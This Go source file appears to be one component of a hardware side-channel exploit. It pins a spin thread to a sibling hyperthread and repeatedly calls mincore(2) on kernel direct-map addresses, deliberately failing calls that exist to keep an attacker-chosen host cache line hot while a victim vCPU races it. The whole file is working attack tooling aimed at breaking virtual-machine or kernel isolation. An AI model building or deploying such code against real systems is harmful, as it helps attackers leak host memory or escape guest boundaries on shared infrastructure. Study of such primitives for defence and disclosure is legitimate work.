// Package primer keeps one attacker-chosen cache line hot from a sibling
// logical core while the victim vCPU races it on the other hyperthread.
package primer

import (
	"fmt"
	"log"
	"runtime"
	"sync/atomic"

	"golang.org/x/sys/unix"
)

// shutdown is the reserved target value that asks the spin thread to exit.
// No kernel virtual address ever looks like this.
const shutdown = ^uint64(0)

// ProbeFunc issues one memory-classification probe against kva, purely for
// the side effect of pulling the backing cache line into a shared level.
// The real probe must fail with EINVAL; any other outcome, success
// included, means kva left the deliberately-invalid region the design
// relies on.
type ProbeFunc func(kva uintptr) error

// Mincore is the production probe. It leans on a cache load gadget
// reachable through mincore(2); the unaligned base address guarantees the
// call itself always fails with EINVAL.
func Mincore(kva uintptr) error {
	if _, _, errno := unix.Syscall(unix.SYS_MINCORE, 1, 0, kva); errno != 0 {
		return errno
	}

	return nil
}

// Primer is the running spin thread. The only coupling to its owner is the
// atomically published target word; neither side ever blocks on the other.
type Primer struct {
	base   uint64
	target atomic.Uint64
	done   chan struct{}
}

// Start pins a spin thread to cpu and begins probing. The target starts at
// the direct-map base itself, which is as harmless as any other address
// since the probe never succeeds. Pinning failures surface here, not in
// the loop.
func Start(cpu int, pageOffsetBase uint64, probe ProbeFunc) (*Primer, error) {
	p := &Primer{base: pageOffsetBase, done: make(chan struct{})}
	p.target.Store(pageOffsetBase)

	ready := make(chan error)
	go p.spin(cpu, probe, ready)

	if err := <-ready; err != nil {
		return nil, err
	}

	return p, nil
}

func (p *Primer) spin(cpu int, probe ProbeFunc, ready chan<- error) {
	defer close(p.done)

	// The affinity below is per-thread; keep this goroutine nailed to one.
	runtime.LockOSThread()

	var set unix.CPUSet

	set.Zero()
	set.Set(cpu)

	if err := unix.SchedSetaffinity(0, &set); err != nil {
		ready <- fmt.Errorf("pin primer to cpu %d: %w", cpu, err)

		return
	}

	ready <- nil

	for {
		kva := p.target.Load()
		if kva == shutdown {
			return
		}

		// Tight spin, no sleeping: the line must stay as hot as the
		// core can keep it.
		if err := probe(uintptr(kva)); err != unix.EINVAL {
			log.Fatalf("cache probe at %#x: want EINVAL, have %v", kva, err)
		}
	}
}

// SetPhysAddress directs the spin thread at the cache line backing the
// host physical address pa, via the kernel's direct map.
func (p *Primer) SetPhysAddress(pa uint64) {
	p.target.Store(pa + p.base)
}

// Stop publishes the shutdown value and joins the spin thread. The thread
// never blocks, so neither does Stop for long.
func (p *Primer) Stop() {
	p.target.Store(shutdown)
	<-p.done
}
